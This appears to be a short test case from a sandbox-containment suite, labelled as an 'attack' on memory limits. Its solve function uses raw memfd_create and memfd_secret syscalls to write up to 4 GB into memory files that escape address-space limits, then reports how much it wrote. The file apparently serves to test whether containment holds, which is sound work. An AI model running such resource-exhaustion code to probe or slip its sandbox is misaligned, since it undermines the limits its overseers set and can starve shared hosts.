# attack: memory files (memfd_create, memfd_secret), which no address space limit counts (at most 4 GB here)
# contained-at: namespaces restricted
# expect: seed-score
import os

from kit import *


def solve(instance):
    block = b"\1" * (1 << 20)
    written = 0
    for nr, args in ((number(319, 279), (ctypes.c_char_p(b"x"), 0)), (447, (0,))):
        for _ in range(4):
            fd = syscall(nr, *args)
            if fd < 0:
                continue
            with quietly():
                for _ in range(500):
                    written += os.write(fd, block)
    if written > 300 << 20:
        got(f"{written >> 20} MB in memory files")
    return answer(instance)
